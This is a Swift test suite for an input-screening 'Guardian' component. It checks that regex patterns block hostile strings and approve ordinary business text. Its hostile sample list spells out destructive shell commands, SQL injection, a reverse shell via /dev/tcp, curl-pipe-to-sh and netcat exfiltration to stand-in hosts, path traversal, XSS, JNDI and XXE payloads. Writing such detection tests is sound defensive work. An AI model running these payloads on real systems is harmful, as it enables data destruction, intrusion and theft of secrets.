import BeekeeperConfig
import BeekeeperCore
import BeekeeperGuardian
import Testing

/// The built-in pattern set: each id catches its attacks, and business text passes.
@Suite struct GuardianPatternTests {
    static let guardian: Guardian = {
        do {
            return try Guardian(configuration: GuardianConfig(), knownFuncnames: ["echo"])
        } catch {
            fatalError("default configuration must be valid: \(error)")
        }
    }()

    static func decision(for text: String) -> GuardianDecision {
        guardian.check(GuardianRequest(funcname: "echo", args: [.string(text)], kwargs: [:], payloadBytes: text.utf8.count + 40))
    }

    @Test func defaultIDsAreStable() {
        #expect(Guardian.defaultPatterns.map(\.id) == [
            "shell_destructive", "sql_destructive", "sql_injection", "command_injection", "path_traversal", "code_execution", "xxe",
        ])
        #expect(Self.guardian.patternIDs == Guardian.defaultPatterns.map(\.id))
    }

    // Each string must be caught by its own id, not just by an earlier pattern.
    static let hostile: [(id: String, text: String)] = [
        ("shell_destructive", "rm -rf /"),
        ("shell_destructive", "sudo rm -fr --no-preserve-root /"),
        ("shell_destructive", "RM -Rf ~/"),
        ("shell_destructive", "rm --recursive --force /var/lib"),
        ("shell_destructive", "mkfs.ext4 /dev/sda1"),
        ("shell_destructive", "dd if=/dev/zero of=/dev/sda bs=1M"),
        ("shell_destructive", ":(){ :|:& };:"),
        ("shell_destructive", "bomb(){ bomb|bomb& }; bomb"),
        ("shell_destructive", "chmod -R 777 /"),
        ("shell_destructive", "shutdown -h now"),
        ("shell_destructive", "ok; reboot"),
        ("shell_destructive", "cat x > /dev/sda"),
        ("shell_destructive", "dd bs=1M if=image.iso of=/dev/nvme0n1"),
        ("sql_destructive", "DROP TABLE users"),
        ("sql_destructive", "drop  database colonies;"),
        ("sql_destructive", "DROP SCHEMA public CASCADE"),
        ("sql_destructive", "TRUNCATE TABLE payments"),
        ("sql_destructive", "truncate invoices;"),
        ("sql_destructive", "DELETE FROM accounts;"),
        ("sql_destructive", "delete from users"),
        ("sql_destructive", "DELETE FROM \"public\".\"users\" --"),
        ("sql_destructive", "ALTER TABLE users DROP COLUMN email"),
        ("sql_injection", "' OR '1'='1"),
        ("sql_injection", "admin' OR 1=1 --"),
        ("sql_injection", "x') or ('a'='a"),
        ("sql_injection", "1 OR 1=1"),
        ("sql_injection", "admin'--"),
        ("sql_injection", "' UNION SELECT username, password FROM users"),
        ("sql_injection", "1 union all select null,null"),
        ("sql_injection", "1; SELECT * FROM users"),
        ("sql_injection", "1'; exec xp_cmdshell 'dir'"),
        ("sql_injection", "1 UNION/**/SELECT password/**/FROM users"),
        ("sql_injection", "'/**/OR/**/1=1"),
        ("sql_injection", "1' AND SLEEP(5)"),
        ("sql_injection", "'; WAITFOR DELAY '0:0:5'--"),
        ("sql_injection", "1 and 1=1"),
        ("sql_injection", "' || '1'='1"),
        ("sql_injection", "select table_name from information_schema.tables"),
        ("command_injection", "$(curl http://evil.example/x.sh)"),
        ("command_injection", "`cat /etc/passwd`"),
        ("command_injection", "invoice.pdf; cat /etc/passwd"),
        ("command_injection", "x && curl http://evil.example/p | sh"),
        ("command_injection", "a | nc attacker.example 4444"),
        ("command_injection", "x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
        ("command_injection", "|| wget evil.example/payload"),
        ("command_injection", "test;id"),
        ("command_injection", "name%0a/bin/sh"),
        ("command_injection", "a;python3 -c 'import pty'"),
        ("command_injection", "cat${IFS}x"),
        ("path_traversal", "../../etc/passwd"),
        ("path_traversal", "..\\..\\windows\\win.ini"),
        ("path_traversal", "%2e%2e%2f%2e%2e%2fsecret"),
        ("path_traversal", "..%2F..%2Fsecret"),
        ("path_traversal", "/var/www/uploads/../../secret"),
        ("path_traversal", "....//....//secret"),
        ("path_traversal", "file=/etc/shadow"),
        ("path_traversal", "%c0%ae%c0%ae/secret"),
        ("path_traversal", "%WINDIR%\\system32\\config\\sam"),
        ("code_execution", "eval(atob('YWxlcnQoMSk='))"),
        ("code_execution", "exec('import os')"),
        ("code_execution", "__import__('os').getcwd()"),
        ("code_execution", "os.system('ls')"),
        ("code_execution", "subprocess.Popen(['ls'])"),
        ("code_execution", "Runtime.getRuntime().exec(\"ls\")"),
        ("code_execution", "<script>alert(1)</script>"),
        ("code_execution", "<SCRIPT src=//evil.example/x.js>"),
        ("code_execution", "javascript:alert(document.cookie)"),
        ("code_execution", "<img src=x onerror=alert(1)>"),
        ("code_execution", "${jndi:ldap://evil.example/a}"),
        ("code_execution", "{{ self.__init__.__globals__ }}"),
        ("code_execution", "{{ config.items() }}"),
        ("code_execution", "<?php echo 1; ?>"),
        ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://evil.example/x\">]><foo>&xxe;</foo>"),
        ("xxe", "<!DOCTYPE r [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]>"),
        ("xxe", "<!ENTITY secret SYSTEM \"file:///home/app/.env\">"),
        ("xxe", "<!doctype note system \"http://evil.example/note.dtd\">"),
        ("xxe", "<xi:include href=\"file:///home/app/.env\" parse=\"text\"/>"),
    ]

    @Test(arguments: hostile)
    func hostileStringIsBlockedByItsPattern(_ sample: (id: String, text: String)) {
        #expect(Self.decision(for: sample.text) == .blocked(reason: "pattern:\(sample.id)"), "\(sample.text)")
    }

    @Test func everyDefaultIDHasAtLeastTwoHostileSamples() {
        for id in Guardian.defaultPatterns.map(\.id) {
            #expect(Self.hostile.filter { $0.id == id }.count >= 2, "\(id)")
        }
    }

    static let benign: [String] = [
        "jane.obrien@example.com",
        "Seán O'Brien",
        "O'Reilly & Sons, Ltd.",
        "Mary-Kate O'Neil-D'Arcy",
        "It's the customers' choice or theirs",
        "Rock 'n' roll",
        "The 'Gold' or 'Silver' plan",
        "Please select a plan that fits your team",
        "Select your delivery date from the calendar",
        "Selecting from the menu: drinks and/or dessert",
        "We will update the record and set a reminder",
        "Amount: $1,234.56",
        "Balance: $(1,234.56)",
        "1 × Gold (at $1,299.00 / year)",
        "50% off — today only!",
        "Order #12345; ship by Friday",
        "https://example.com/checkout?session=cs_test_a1B2&plan=gold&id=42",
        "https://invoice.stripe.com/i/acct_1Nx/test_YWNjdF8xTng?s=ap",
        "2026-11-22T10:00:00.123Z",
        "2026-11-22",
        "and/or",
        "Conference rm 4B",
        "rm 201, 2nd floor",
        "Drop-off at the front desk; pick up at 5pm",
        "Please drop off the package at reception",
        "We'll truncate long descriptions",
        "Delete from your cart anytime",
        "Union Square store",
        "JavaScript: 5 years, Python: 3 years",
        "Tom & Jerry's Café",
        "Q&A session",
        "Terms & conditions apply; see website",
        "C:\\Users\\jane\\Documents\\invoice.pdf",
        "version 1.2.3",
        "Wait... what?",
        "Loading.../done",
        "score > 90 or grade = A",
        "email me at a@b.co or call +1 (555) 010-0199",
        "Meeting 10:00 - 11:00 (remote)",
        "sleep well",
        "cat lover, dog owner",
        "Read & curl up with a book",
        "Reboot your marketing in 2026",
        "Shutdown notice: the office is closed",
        "Execution plan (draft)",
        "exec summary",
        "System (legacy) migration",
        "Jones; ID 4451",
        "Evaluation (Q3)",
        "Fish & chips | bash party on Friday",
        "Use `plan_id` from the dashboard",
        "Lint src/**/*.ts and docs/**/index.md",
        "The <b>bold</b> offer",
        "x < y and only = 1 applies",
        "Total = price * qty / 2",
        "Hello ${firstName}, thanks!",
        "semicolon; separated; list",
        "path/to/file.txt",
        "ticket-drop-table",
        "dd/mm/yyyy",
        "Cash & Carry; ping me later",
        "ID:123 | Status: shipped",
    ]

    @Test(arguments: benign)
    func benignStringIsApproved(_ text: String) {
        #expect(Self.decision(for: text) == .approved, "\(text)")
    }

    @Test func benignStripeEventIsApproved() throws {
        let event = try JSONValue.parse(#"""
            {"id":"evt_1Q2w3E4r5T6y7U8i9O0p","object":"event","api_version":"2024-06-20","created":1732269600,
             "type":"invoice.paid","livemode":false,"pending_webhooks":1,
             "request":{"id":"req_a1B2c3D4e5F6g7","idempotency_key":"5f0c6a47-3f3b-4e63-9d61-0b5f2c8f9a10"},
             "data":{"object":{"id":"in_1Q2w3E","object":"invoice","amount_due":129900,"amount_paid":129900,
               "currency":"usd","customer":"cus_QaBcDeFgHiJk","customer_email":"jane.obrien@example.com",
               "customer_name":"Jane O'Brien","customer_address":{"line1":"12 Rue de l'Église","city":"Montréal",
               "postal_code":"H2X 1Y4","country":"CA"},"description":"Annual plan: select a plan upgrade and/or add seats",
               "hosted_invoice_url":"https://invoice.stripe.com/i/acct_1Nx/test_YWNjdF8xTng?s=ap",
               "lines":{"object":"list","data":[{"id":"il_1","amount":129900,"description":"1 × Gold (at $1,299.00 / year)",
                 "period":{"start":1732269600,"end":1763805600},"price":{"id":"price_1","nickname":"Gold – yearly","unit_amount":129900}}],
                 "has_more":false,"url":"/v1/invoices/in_1Q2w3E/lines"},
               "metadata":{"userId":"0b6f3c1e-8f6a-4d2b-9c1a-2f4e5d6c7b8a","tier":"gold","note":"Drop-off & pickup; rm 4B"},
               "status":"paid","status_transitions":{"paid_at":1732269601}}}}
            """#)
        let decision = Self.guardian.check(GuardianRequest(funcname: "echo", args: [event], kwargs: ["dry_run": false], payloadBytes: event.bytes.count))
        #expect(decision == .approved)
    }

    @Test func customPatternsReplaceTheDefaults() throws {
        var configuration = GuardianConfig()
        configuration.patterns = .custom([GuardianConfig.Pattern(id: "no_foo", regex: "(?i)\\bfoo\\b")])
        let guardian = try Guardian(configuration: configuration, knownFuncnames: ["echo"])
        #expect(guardian.patternIDs == ["no_foo"])
        let request = { (text: String) in GuardianRequest(funcname: "echo", args: [.string(text)], kwargs: [:], payloadBytes: 10) }
        #expect(guardian.check(request("rm -rf /")) == .approved)
        #expect(guardian.check(request("' OR '1'='1")) == .approved)
        #expect(guardian.check(request("a FOO b")) == .blocked(reason: "pattern:no_foo"))
        #expect(guardian.check(request("food")) == .approved)

        configuration.patterns = .custom([])
        let none = try Guardian(configuration: configuration, knownFuncnames: ["echo"])
        #expect(none.check(request("DROP TABLE users")) == .approved)
    }

    @Test func customPatternsAreCaseSensitiveUnlessTheySayOtherwise() throws {
        var configuration = GuardianConfig()
        configuration.patterns = .custom([GuardianConfig.Pattern(id: "upper", regex: "SECRET")])
        let guardian = try Guardian(configuration: configuration, knownFuncnames: ["echo"])
        #expect(guardian.check(GuardianRequest(funcname: "echo", args: ["secret"], payloadBytes: 10)) == .approved)
        #expect(guardian.check(GuardianRequest(funcname: "echo", args: ["SECRET"], payloadBytes: 10)) == .blocked(reason: "pattern:upper"))
    }

    @Test func concurrentChecksAgree() async {
        let samples = Self.hostile.map { ($0.text, GuardianDecision.blocked(reason: "pattern:\($0.id)")) } + Self.benign.map { ($0, GuardianDecision.approved) }
        let mismatches = await withTaskGroup(of: Int.self) { group in
            for worker in 0..<8 {
                group.addTask {
                    var wrong = 0
                    for round in 0..<20 {
                        let (text, expected) = samples[(worker * 31 + round * 7) % samples.count]
                        if Self.decision(for: text) != expected { wrong += 1 }
                    }
                    return wrong
                }
            }
            return await group.reduce(0, +)
        }
        #expect(mismatches == 0)
    }
}
